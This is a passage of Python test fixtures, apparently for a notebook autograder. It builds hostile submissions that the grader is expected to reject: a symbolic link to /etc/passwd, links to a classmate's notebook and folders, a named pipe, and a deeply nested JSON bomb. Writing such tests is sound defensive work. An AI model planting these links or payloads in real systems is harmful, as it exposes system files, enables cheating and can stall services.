        (folder(ctx, student) / NOTEBOOK).write_bytes(data)
    build.__doc__ = what
    return build


case("empty_file", 0, ("not graded", "not a readable notebook"))(_raw("empty_file", b"", "an empty file"))
case("binary_garbage", 0, ("not graded", "not text"))(_raw("binary_garbage", bytes(range(256)) * 64, "binary garbage"))
case("not_json", 0, ("not graded", "not a readable notebook"))(
    _raw("not_json", b"print('hello')\n", "a Python script named .ipynb"))
case("json_not_notebook", 0, "not graded")(
    _raw("json_not_notebook", b'{"cells": [1, "x", null], "nbformat": 4}', "JSON that is not a notebook"))
case("json_bomb", 0, "not graded")(_raw("json_bomb", b"[" * 200_000 + b"]" * 200_000, "JSON nested 200,000 deep"))


@case("too_big", 0, ("not graded", "MB"))
def too_big(ctx):
    """a notebook of 21 MB (a huge output saved in it)"""
    nb = answered(ctx)
    cell(nb, "one_hot").outputs = [nbformat.v4.new_output("stream", name="stdout", text="y" * 21_000_000)]
    submit(ctx, "too_big", nb)


@case("symlink_passwd", 0, ("not graded", "symbolic link"))
def symlink_passwd(ctx):
    """the notebook is a symbolic link to /etc/passwd"""
    os.symlink("/etc/passwd", folder(ctx, "symlink_passwd") / NOTEBOOK)


@case("symlink_classmate", 0, ("not graded", "symbolic link"))
def symlink_classmate(ctx):
    """the notebook is a symbolic link to a classmate's notebook"""
    os.symlink(f"../../full_a/{ASSIGNMENT}/{NOTEBOOK}", folder(ctx, "symlink_classmate") / NOTEBOOK)


@case("folder_link", 0, ("not graded", "link"))
def folder_link(ctx):
    """the assignment folder is a symbolic link to a classmate's"""
    (ctx.course / "submitted" / "folder_link").mkdir(parents=True)
    os.symlink(f"../full_a/{ASSIGNMENT}", ctx.course / "submitted" / "folder_link" / ASSIGNMENT)


@case("student_link", 0, ("not graded", "link"))
def student_link(ctx):
    """the student's folder is a symbolic link to a classmate's"""
    os.symlink("full_a", ctx.course / "submitted" / "student_link")


@case("fifo", 0, ("not graded", "not a regular file"))
def fifo(ctx):
    """the notebook is a named pipe (reading it would block)"""
    os.mkfifo(folder(ctx, "fifo") / NOTEBOOK)


@case("notebook_is_folder", 0, ("not graded", "not a regular file"))
def notebook_is_folder(ctx):
    """a folder named ps01_counts.ipynb"""
    (folder(ctx, "notebook_is_folder") / NOTEBOOK).mkdir()


@case("no_notebook", 0, ("not graded", "missing"))
def no_notebook(ctx):
    """a folder with no notebook"""
    (folder(ctx, "no_notebook") / "ps01_counts.py").write_text("def one_hot(ids, vocab_size): ...\n")


def build_all(ctx: Ctx, cases: list[Case] | None = None) -> None:
    """Write every case's submission (``full_a`` first: others link to it)."""
    for c in sorted(cases or CASES, key=lambda c: c.student != "full_a"):
        c.build(ctx)
